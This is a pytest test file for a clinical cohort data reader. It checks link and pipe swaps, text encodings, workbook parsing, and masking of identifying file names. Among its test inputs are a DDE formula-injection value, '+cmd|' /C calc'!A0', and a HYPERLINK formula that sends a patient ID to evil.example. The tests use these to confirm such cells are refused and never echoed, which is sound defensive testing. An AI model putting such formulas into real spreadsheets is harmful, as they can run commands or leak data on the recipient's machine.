"""helpers.contract.files: the reader's guarantees below the catalogue of tests/test_bad_inputs.py.

The catalogue shows each malformed input through the intake; these tests pin what it cannot see:
a link or a pipe swapped in between the check and the open is still not followed, workbook values
are the ones pandas' Excel reader gave before, saved formula results are read and said, file names
that look like identifiers are masked, long lists are capped, and row numbers of
``infusion_dates.csv`` count blank lines like every contract table. Each test says whether the
reader before issue 17 failed it (run with the pre-17 ``src`` tree on ``PYTHONPATH``) or whether it
guards behaviour that was already right and must stay so.
"""

from __future__ import annotations

import datetime as dt
import os
import re
import shutil
import signal
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from helpers import chapters
from helpers.contract import ContractError, load_cohort
from helpers.contract import files as input_files
from helpers.contract.spec import TABLES
from helpers.paths import REPO_ROOT

EXAMPLE = REPO_ROOT / "data" / "examples" / "single-centre"


@pytest.fixture
def cohort(tmp_path) -> Path:
    """A copy of the worked example (a valid cohort without labs and kinetics)."""
    folder = tmp_path / "single-centre"
    shutil.copytree(EXAMPLE, folder)
    return folder


def _problems(folder: Path) -> list[str]:
    with pytest.raises(ContractError) as info:
        load_cohort(folder)
    return info.value.lines


# --------------------------------------------------------------------------- file names

def test_table_file_names_match_in_any_letter_case(cohort):
    """Already right before issue 17 (a guard): Patients.CSV is the patients table."""
    shutil.move(cohort / "patients.csv", cohort / "Patients.CSV")
    shutil.move(cohort / "outcomes.csv", cohort / "OUTCOMES.csv")
    loaded = load_cohort(cohort)
    assert loaded.files["patients"] == "Patients.CSV" and loaded.files["outcomes"] == "OUTCOMES.csv"


def test_a_study_is_found_by_a_near_miss_so_that_its_problem_can_be_named(tmp_path):
    """New helper for finding study folders (before issue 17 only patients.csv itself counted)."""
    (tmp_path / "a").mkdir()
    (tmp_path / "a" / "Patients.csv.csv").write_text("x")
    (tmp_path / "b").mkdir()
    (tmp_path / "b" / "notes.txt").write_text("x")
    assert input_files.holds_table(tmp_path / "a", "patients", TABLES)
    assert not input_files.holds_table(tmp_path / "b", "patients", TABLES)
    assert input_files.describe_folder(tmp_path / "a", TABLES) == (
        "the folder holds: Patients.csv.csv (a doubled extension: rename it patients.csv)")


@pytest.mark.parametrize("name, hint", [
    ("patients.txt", "a .txt text file: save it as CSV UTF-8 (comma-separated) named patients.csv"),
    ("patients.ods", "a .ods workbook: save it as patients.xlsx, or as CSV UTF-8 named patients.csv"),
    ("patients", "no file extension: rename it patients.csv (CSV text) or patients.xlsx (a workbook)"),
    (" patients.csv.csv", "a doubled extension: rename it patients.csv"),
    ("export\\Patients.xlsx", "a folder path kept in the file name, as some zip programs do: rename it patients.xlsx"),
])
def test_near_miss_names_say_what_to_do(name, hint):
    assert input_files.near_miss(name, TABLES) == ("patients", hint)


def test_identifier_like_file_names_are_masked_in_messages(cohort):
    """Before issue 17 the ignored file's name was noted as it is (here a date, a possible birth date)."""
    (cohort / "export 2021-03-04.csv").write_text("a,b\n1,2\n")
    (cohort / "outcomes.csv").unlink()
    with pytest.raises(ContractError) as info:
        load_cohort(cohort)
    text = str(info.value) + "\n" + "\n".join(info.value.notes["note"]) + "\n".join(info.value.notes["source"])
    assert "2021-03-04" not in text and "masked value 'xxxxxx 9999-99-99.xxx'" in text


# --------------------------------------------------------------------------- links and pipes

def test_a_link_swapped_in_after_the_check_is_not_followed(tmp_path, monkeypatch):
    """The open itself refuses links (O_NOFOLLOW), whatever the earlier lstat said."""
    secret = tmp_path / "secret.csv"
    secret.write_text("study_id,patient_id\nother,X-1\n")
    link = tmp_path / "patients.csv"
    link.symlink_to(secret)
    monkeypatch.setattr(input_files, "examine", lambda path: input_files.Entry(Path(path), "file", 10))
    with pytest.raises(input_files.NotReadable, match="could not be opened"):
        input_files.read_regular_file(link)


def test_a_pipe_swapped_in_after_the_check_is_not_read_and_does_not_block(tmp_path, monkeypatch):
    pipe = tmp_path / "labs.csv"
    os.mkfifo(pipe)
    monkeypatch.setattr(input_files, "examine", lambda path: input_files.Entry(Path(path), "file", 10))
    signal.alarm(10)  # a blocking open would hang the test run: fail it instead
    try:
        with pytest.raises(input_files.NotReadable, match="not a regular file"):
            input_files.read_regular_file(pipe)
    finally:
        signal.alarm(0)


def test_infusion_dates_given_as_a_link_are_refused(cohort, tmp_path):
    """Before issue 17 pandas followed the link and read the other file."""
    other = tmp_path / "elsewhere.csv"
    shutil.move(cohort / "infusion_dates.csv", other)
    (cohort / "infusion_dates.csv").symlink_to(other)
    patients = pd.read_csv(cohort / "patients.csv", dtype=str)
    with pytest.raises(ContractError, match="infusion_dates.csv: table 'infusion_dates': is a symbolic link"):
        chapters.read_infusion_months(cohort / "infusion_dates.csv", patients)


def test_infusion_dates_rows_count_blank_lines_like_the_contract_tables(cohort):
    """Before issue 17 pandas skipped the blank line and named row 2 for what is data row 3 (line 4)."""
    path = cohort / "infusion_dates.csv"
    lines = path.read_text().splitlines()
    lines.insert(2, "")  # blank line 3: data row 2
    lines[3] = lines[3].rsplit(",", 1)[0] + ",2021-13-01"  # data row 3 of the file, line 4
    path.write_text("\n".join(lines) + "\n")
    patients = pd.read_csv(cohort / "patients.csv", dtype=str)
    with pytest.raises(ContractError) as info:
        chapters.read_infusion_months(path, patients)
    assert info.value.lines == ["infusion_dates.csv: table 'infusion_dates', column 'infusion_date', row 3: "
                                "must be a date written YYYY-MM-DD"]


# --------------------------------------------------------------------------- text

def test_utf8_text_with_accents_is_read_as_it_is(cohort):
    """A guard: the encoding checks do not refuse real UTF-8 (no NUL, no undecodable byte)."""
    lines = (cohort / "adverse_events.csv").read_text(encoding="utf-8").splitlines()
    cells = lines[1].split(",")
    cells[3] += " (fièvre; Ödem)"  # the term of data row 1
    lines[1] = ",".join(cells)
    (cohort / "adverse_events.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    frame = load_cohort(cohort)["adverse_events"]
    assert frame["term"].str.contains("fièvre; Ödem").any()


def test_utf16_without_a_byte_order_mark_of_non_latin_text_is_still_named():
    data = "study_id,patient_id,cohort\nx,Π-1,λεμφώματα\n".encode("utf-16-le")
    problems: list = []
    assert input_files.decode_text(data, "patients.csv", "patients", [], problems) is None
    assert "UTF-16 LE without a byte-order mark" in problems[0]["rule"]


def test_more_than_20_lines_with_undecodable_bytes_are_summarised():
    data = ("a,b\n" + "".join(f"{i},caf\xe9\n" for i in range(25))).encode("latin-1")
    problems: list = []
    input_files.decode_text(data, "x.csv", "x", [], problems)
    assert len(problems) == 21 and [p["row"] for p in problems[:20]] == list(range(1, 21))
    assert all(p["column"] == "b" for p in problems[:20])
    assert problems[20]["rule"] == "and 5 more lines with undecodable bytes" and problems[20]["row"] is None


@pytest.mark.parametrize("text, opened", [
    ('a,"b""c,d\n', (2, 1)),         # the doubled quote is text; the cell never closes
    ('a,"b",c\n', None),             # closed
    ('a,"b\nc",d\n"e', (10, 0)),     # a legal two-line cell, then an unclosed one at the next record
])
def test_the_unclosed_quote_is_found_where_it_opens(text, opened):
    start = 0 if opened is None or opened[0] < 10 else text.index('"e')
    assert input_files._unclosed_quote(text, start) == opened


# --------------------------------------------------------------------------- cells

@pytest.mark.parametrize("value, leader", [
    ("-5", None), ("+1e6", None), ("-0.25", None), ("-", None), ("=", None), ("CD19", None), ("Ph+ ALL", None),
    ("=1+1", "="), ("@SUM(A1)", "@"), ("+cmd|' /C calc'!A0", "+"), ("-2+3", "-"), ("  =x", "="), ("-30 to 3650", "-"),
])
def test_formula_leading_text_is_told_from_numbers(value, leader):
    assert input_files.formula_leader(value) == leader


def test_a_refused_cell_is_never_echoed(cohort):
    lines = (cohort / "treatments.csv").read_text().splitlines()
    cells = lines[1].split(",")
    cells[3] = '"=HYPERLINK(""http://evil.example/?x=SC-001"")"'  # the agent of data row 1, quoted CSV
    lines[1] = ",".join(cells)
    (cohort / "treatments.csv").write_text("\n".join(lines) + "\n")
    lines = _problems(cohort)
    assert lines and not any("evil.example" in line or "HYPERLINK" in line for line in lines)
    assert "column 'agent', row 1: begins with '='" in lines[0]


# --------------------------------------------------------------------------- workbooks

def _workbook(path: Path, rows: list[list], title: str = "labs") -> None:
    book = openpyxl.Workbook()
    book.active.title = title
    for row in rows:
        book.active.append(row)
    book.save(path)


def test_workbook_values_are_those_pandas_read_before(tmp_path):
    """A guard for the switch from pandas.read_excel to openpyxl: the same cells, types and trimming,
    except that a cell reading 'NA' stays text (pandas made it missing in silence; the contract now
    reads it as missing and counts it in a note)."""
    rows = [["a", "b", "c", "d", None], [1, 2.5, True, dt.datetime(2021, 3, 4), None], [None, None, None, None, None],
            ["x", 3.0, False, "NA", None], [None, None, None, None, None]]
    path = tmp_path / "labs.xlsx"
    _workbook(path, rows)
    header, data = input_files.read_xlsx_table(path, "labs", [], [], columns=TABLES["labs"].column_names)
    expected = pd.read_excel(path, header=None, dtype=object, engine="openpyxl")
    expected = expected.astype(object).where(expected.notna(), None).values.tolist()
    assert expected[3][3] is None and data[2][3] == "NA"
    expected[3][3] = "NA"
    assert [header, *data] == expected
    assert [type(v) for v in data[0]] == [type(v) for v in expected[1]]


def test_saved_formula_results_are_read_and_noted(tmp_path):
    """Before issue 17 the saved values were read without a word that the cells held formulas."""
    path = tmp_path / "labs.xlsx"
    book = openpyxl.Workbook()
    ws = book.active
    ws.title = "labs"
    ws.append(["study_id", "value"])
    ws.append(["s", "=2*3"])
    book.save(path)
    # openpyxl writes no saved value; put one in, as Excel would have, inside the sheet's XML.
    patched = tmp_path / "patched.xlsx"
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(patched, "w") as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(rb"<f>2\*3</f><v\s*/?>(</v>)?", b"<f>2*3</f><v>6</v>", data)
                assert b"<v>6</v>" in data
            dst.writestr(item, data)
    notes: list = []
    header, data = input_files.read_xlsx_table(patched, "labs", notes, [], columns=["study_id", "value"])
    assert data == [["s", 6]]
    assert notes == [dict(source="patched.xlsx", table="labs",
                          note="read the saved values of 1 formula cell (sheet 'labs', B2)")]


def test_a_sheet_named_after_the_table_is_chosen_among_several(cohort):
    """Already right before issue 17 (a guard); several sheets without that name are now refused."""
    frame = pd.read_csv(cohort / "outcomes.csv", dtype=str, keep_default_na=False)
    (cohort / "outcomes.csv").unlink()
    with pd.ExcelWriter(cohort / "outcomes.xlsx") as writer:
        pd.DataFrame({"note": ["read me"]}).to_excel(writer, sheet_name="README", index=False)
        frame.to_excel(writer, sheet_name="Outcomes", index=False)
    loaded = load_cohort(cohort)
    assert len(loaded["outcomes"]) == len(frame)
    assert "read sheet 'Outcomes'; ignored the other sheets (README)" in loaded.notes["note"].tolist()


def test_an_empty_hidden_row_below_the_data_is_not_refused(cohort):
    """Only hidden cells that hold something are refused; formatting below the table is harmless."""
    frame = pd.read_csv(cohort / "outcomes.csv", dtype=str, keep_default_na=False)
    (cohort / "outcomes.csv").unlink()
    path = cohort / "outcomes.xlsx"
    frame.to_excel(path, index=False, sheet_name="outcomes")
    book = openpyxl.load_workbook(path)
    book.active.row_dimensions[len(frame) + 5].hidden = True
    book.save(path)
    assert len(load_cohort(cohort)["outcomes"]) == len(frame)


def test_a_password_protected_or_old_workbook_named_xlsx_is_named(tmp_path):
    path = tmp_path / "labs.xlsx"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504)
    problems: list = []
    assert input_files.read_xlsx_table(path, "labs", [], problems, columns=[]) is None
    assert problems[0]["rule"].startswith("is not an .xlsx workbook: it is an old Excel (.xls) workbook or a "
                                          "password-protected one")


# --------------------------------------------------------------------------- no absolute path in a message

def test_an_error_names_the_data_folder_without_its_absolute_path(cohort, monkeypatch):
    """The folder's parents may carry a user's or a centre's name: an error names the folder by its
    own name when it lies outside the working directory, and relative to it when below it."""
    (cohort / "patients.csv").write_text("study_id,patient_id\n", encoding="utf-8")
    monkeypatch.chdir(REPO_ROOT)
    with pytest.raises(ContractError) as outside:
        load_cohort(cohort)
    head = str(outside.value).splitlines()[0]
    assert " in single-centre " in head and str(cohort.parent) not in str(outside.value)
    monkeypatch.chdir(cohort.parent.parent)
    with pytest.raises(ContractError) as below:
        load_cohort(cohort)
    assert f" in {cohort.parent.name}/single-centre " in str(below.value).splitlines()[0]
